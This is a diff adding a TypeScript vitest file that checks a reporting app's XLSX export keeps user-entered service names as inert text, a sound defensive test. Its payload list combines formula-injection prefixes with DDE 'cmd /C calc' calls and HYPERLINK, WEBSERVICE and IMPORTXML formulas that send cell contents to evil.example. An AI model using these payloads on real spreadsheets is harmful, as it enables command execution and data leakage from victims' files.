@@ -1,0 +1,95 @@
+/** Whatever people write, a spreadsheet program computes nothing of it: it stands in the file as a text. */
+import { expect, it } from 'vitest';
+import { readSpreadsheet } from '../../../src/reports/workbook/xlsx/read-spreadsheet.ts';
+import { openZip } from '../../../src/reports/workbook/xlsx/unzip.ts';
+import { editFile } from './edit-file.ts';
+import { exported, workbook } from './shipped.ts';
+
+/** How a cell has to begin so that some program takes it for a formula, or for something that it runs. */
+const BEGINNINGS = [
+  ...['=', '+', '-', '@', '==', '=+', '+-', '-+', '@@', '=@', '"=', "'=", '{=', '=(', '|'],
+  ...[' =', '\u00a0=', '\u3000=', '\ufeff=', '\u200b=', '\t=', '\r=', '\n=', '\u0000=', ';=', ',='],
+  ...['＝', '＋', '－', '＠', '\u2212'],
+];
+const TAILS = [
+  '1+1',
+  "cmd|'/C calc'!A0",
+  'HYPERLINK("https://evil.example?"&A1,"Katso")',
+  'IMPORTXML("https://evil.example","//a")',
+  'WEBSERVICE("https://evil.example/"&A1)',
+  'DDE("cmd";"/C calc";"1")',
+  "SUM('2 Kasvatus ja koulutus'!A1:A9)",
+  '[evil.xlsx]Sheet1!A1',
+];
+const PATTERNS = BEGINNINGS.flatMap(beginning => TAILS.map(tail => beginning + tail));
+/** Services of people's own that one area has room for. */
+const MOST = 30;
+
+it(`none of ${PATTERNS.length} patterns is live in a spreadsheet`, () => {
+  expect(PATTERNS.length).toBeGreaterThanOrEqual(200);
+  const atOnce = MOST * workbook.areas.length;
+  const formulas = formulasIn(
+    exported(workbookWith(PATTERNS.slice(0, atOnce).map((_, at) => `Palvelu ${at}`))),
+  );
+  expect(formulas.length).toBeGreaterThan(1000);
+  for (let from = 0; from < PATTERNS.length; from += atOnce) {
+    const names = Array.from({ length: atOnce }, (_, at) => PATTERNS[(from + at) % PATTERNS.length] ?? '');
+    const file = exported(workbookWith(names));
+    const texts = textsIn(file);
+    expect(names.filter(name => !texts.has(plain(name)))).toEqual([]);
+    expect(formulasIn(file)).toEqual(formulas);
+  }
+});
+
+it('a live one would be found', () => {
+  const file = exported(workbookWith(['=1+1']));
+  const made = editFile(file, parts => {
+    const shared = (parts['xl/sharedStrings.xml'] ?? '').split('<si>').slice(1);
+    const number = shared.findIndex(text => text.includes('>=1+1<'));
+    const tab = 'xl/worksheets/sheet2.xml';
+    parts[tab] = parts[tab]?.replaceAll(` t="s"><v>${number}</v>`, ' t="str"><f>1+1</f><v>=1+1</v>');
+  });
+  expect([textsIn(file).has('=1+1'), textsIn(made).has('=1+1')]).toEqual([true, false]);
+  expect(formulasIn(made).length).toBeGreaterThan(formulasIn(file).length);
+});
+
+/** Services of these names, as many in each area as there is room for. */
+function workbookWith(names: readonly string[]) {
+  const areas = workbook.areas.map(({ id }, area) => {
+    const own = names
+      .slice(area * MOST, (area + 1) * MOST)
+      .map((name, at) => ({ id: `own-${at + 1}`, name, status: 'planned' as const }));
+    return [id, { services: {}, own }] as const;
+  });
+  return {
+    dialog: 'workbook' as const,
+    version: workbook.definition.version,
+    areas: Object.fromEntries(areas),
+  };
+}
+
+/** Read back with the project's own reader: all texts in cells without a formula. */
+function textsIn(file: Uint8Array): ReadonlySet<string> {
+  const { sheets } = readSpreadsheet(file);
+  return new Set(
+    sheets.flatMap(({ rows, formulas }) =>
+      [...rows].flatMap(([row, cells]) =>
+        [...cells].flatMap(([column, cell]) =>
+          cell.kind === 'text' && !cell.computed && !formulas.get(row)?.has(column) ? [plain(cell.text)] : [],
+        ),
+      ),
+    ),
+  );
+}
+
+/** Letters alone: what a file may not hold at all (NUL), and spaces around, are taken away when it is written. */
+function plain(text: string): string {
+  return text.replace(/[\s\p{C}]/gu, '');
+}
+
+/** Every formula of every tab. */
+function formulasIn(file: Uint8Array): string[] {
+  const zip = openZip(file);
+  const tabs = Array.from({ length: 9 }, (_, at) => zip.read(`xl/worksheets/sheet${at + 1}.xml`) ?? '');
+  return tabs.flatMap(xml => xml.match(/<f[ >][^<]*<\/f>/g) ?? []);
+}
